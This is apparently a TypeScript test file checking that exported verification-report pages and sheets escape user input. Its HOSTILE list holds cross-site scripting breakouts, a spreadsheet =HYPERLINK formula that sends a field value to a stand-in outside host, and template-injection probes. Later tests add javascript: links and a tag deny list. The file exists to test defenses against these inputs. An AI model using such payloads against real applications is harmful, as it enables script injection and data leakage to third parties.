import assert from 'node:assert/strict'
import { test } from 'node:test'
import { importReport } from '../claims/suggestions.ts'
import { acceptAll } from '../claims/triage.ts'
import { attachLink } from '../evidence/evidence.ts'
import { LINK } from '../claims/testing.ts'
import { LOCALES } from '../people/person.ts'
import { words } from '../../views/locales/words.ts'
import { passagesOfReport } from '../reports/reports.ts'
import { key } from '../web/testing.ts'
import { tagsIn, wordsIn } from '../web/testing-page.ts'
import { verificationReport } from './document.ts'
import { pageOf } from './page.ts'
import { sheetOf } from './sheet.ts'
import { fullDesk, plain } from './testing.ts'

/** Each would break out of another place of a page, or run in a sheet. The field stands in it, so that every text is another. */
const HOSTILE = [
  (field: string) => `</p></article></style><script>alert('${field}')</script>`,
  (field: string) => `"><img src=x onerror="alert('${field}')"> of this length`,
  (field: string) => `' onmouseover='alert(1)' x='${field} of this length`,
  (field: string) => `<!-- ${field} of this length`,
  (field: string) => `<pre>\ndesk.test/claimdesk-trail\n1\nx\n\n— desk.test/claimdesk-trail ${field}\n</pre>`,
  (field: string) => `=HYPERLINK("https://elsewhere.example/?${field}")`,
  (field: string) => `\u202E&lt;${field}&quot; of this length\u2066`,
  (field: string) => `<%= ${field} %> of this length {{7*7}}`,
] as const

/** What a page is made of, whatever is written on it. */
const structureOf = (page: string) => tagsIn(page).map(({ name, closes, attributes }) => `${closes ? '/' : ''}${name} ${Object.keys(attributes).join(' ')}`).join('\n')

for (const [index, hostile] of HOSTILE.entries()) {
  test(`what people type stays text: ${hostile('field').slice(0, 30).replaceAll('\n', ' ')}`, async (t) => {
    const inert = await fullDesk(t)
    const attacked = await fullDesk(t, hostile)
    const [plainReport, hostileReport] = [inert, attacked].map(({ db, report }) => verificationReport(db, report.id, key)) as [ReturnType<typeof verificationReport>, ReturnType<typeof verificationReport>]
    for (const locale of LOCALES) {
      const page = pageOf(hostileReport, locale)
      assert.equal(structureOf(page), structureOf(pageOf(plainReport, locale)))
      assert.equal(page.match(/<(?:script|img|pre|style|\/style)\b/g)?.join(), '<style,</style,<pre', `attack ${index}`)
      assert.ok(wordsIn(page).includes(hostile('statement').replace(/\s+/g, ' ').trim()), 'and it is shown as it was typed')
    }
    for (const row of sheetOf(hostileReport).split('\r\n')) assert.doesNotMatch(row, /(?:^|,)"?\s*[=+@]/)
  })
}

test('the cover and the source of a hostile report stay text too', async (t) => {
  const { db, salma, by } = await fullDesk(t)
  const evil = `<script>alert(1)</script>"'<img src=x onerror=alert(1)>`
  const about = { publisher: evil, author: evil, publishedOn: null, language: 'fr', fileName: null } as const
  const id = importReport(db, by(salma), { ...about, title: `</title>${evil}`, sourceAddress: 'javascript:alert(1)', text: `Un ${evil} pont.\n\nUn autre </p> pont.\n` })
  for (const passage of passagesOfReport(db, id)) acceptAll(db, by(salma), id, passage)
  const page = pageOf(verificationReport(db, id, key), 'en')
  assert.doesNotMatch(page, /<script|<img|href="javascript/i)
  assert.ok(wordsIn(page).includes(`</title>${evil}`))
})

test('only web addresses become links', async (t) => {
  const { db, report, ids, by, salma, at } = await fullDesk(t)
  attachLink(db, by(salma), { ...LINK, ...at(ids.unjudged), address: 'javascript:alert(1)' })
  const page = pageOf(verificationReport(db, report.id, key), 'en')
  assert.match(page, /<bdi>javascript:alert\(1\)<\/bdi>/)
  for (const { attributes: { href } } of tagsIn(page).filter(({ name, closes }) => name === 'a' && !closes)) assert.match(href ?? '', /^(https?:\/\/|#claim-)/)
})

test('the page needs nothing that is not in it', async (t) => {
  const { db, report } = await fullDesk(t)
  for (const locale of LOCALES) {
    const page = pageOf(verificationReport(db, report.id, key), locale)
    const tags = tagsIn(page)
    assert.ok(tags.every(({ name, attributes }) => !['script', 'link', 'img', 'iframe', 'form', 'object', 'base'].includes(name) && !('src' in attributes) && !('style' in attributes)))
    assert.ok(tags.every(({ attributes }) => Object.keys(attributes).every((name) => !name.startsWith('on') && !name.startsWith('hx-'))))
    assert.doesNotMatch(/<style>([\s\S]*?)<\/style>/.exec(page)?.[1] ?? '', /url\(|@import|@font-face/)
    assert.match(tags.find(({ attributes }) => attributes['http-equiv'])?.attributes.content ?? '', /^default-src 'none'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'$/)
  }
})

test('every section is there in both languages, each text in its own language and direction', async (t) => {
  const { db, report, ids } = await fullDesk(t)
  const told = verificationReport(db, report.id, key)
  for (const locale of LOCALES) {
    const w = words[locale]
    const page = pageOf(told, locale)
    const shown = wordsIn(page)
    for (const section of Object.values(w.export.sections)) assert.ok(shown.includes(section), section)
    for (const definition of Object.values(w.definitions)) assert.ok(shown.includes(definition), definition)
    for (const rule of Object.values(w.export.method)) assert.ok(shown.includes(rule), rule)
    for (const state of Object.values(w.export.approvals)) assert.ok(shown.includes(state), state)
    for (const field of ['rationale', 'settle', 'request', 'bypass reason', 'first title', 'against quote', 'context note', 'looked in', 'looked for', 'withdrawal reason', 'place', 'date basis']) {
      assert.ok(shown.includes(plain(field)), field)
    }
    assert.match(page, new RegExp(`<html lang="${locale}" dir="${locale === 'ar' ? 'rtl' : 'ltr'}">`))
    assert.match(page, /<ol class="passages" lang="fr" dir="ltr">/)
    assert.match(page, new RegExp(`<h3 id="statement-${ids.signed}" lang="fr" dir="ltr">`))
  }
})

test('highlights are inline marks, and between them stands the text as it was', async (t) => {
  const { db, report } = await fullDesk(t)
  const page = pageOf(verificationReport(db, report.id, key), 'en')
  const passages = Array.from(page.matchAll(/<p class="passage__text">(.*?)<\/p>/gs), ([, inner]) => inner!)
  for (const inner of passages) assert.match(inner, /^(?:[^<]|<mark class="(?:verified|disputed|unverifiable|open)">|<\/mark>)*$/)
  assert.equal(passages.map((inner) => wordsIn(inner.replace(/<\/?mark[^>]*>/g, ''))).join(' '), report.text.replace(/\s+/g, ' ').trim())
})
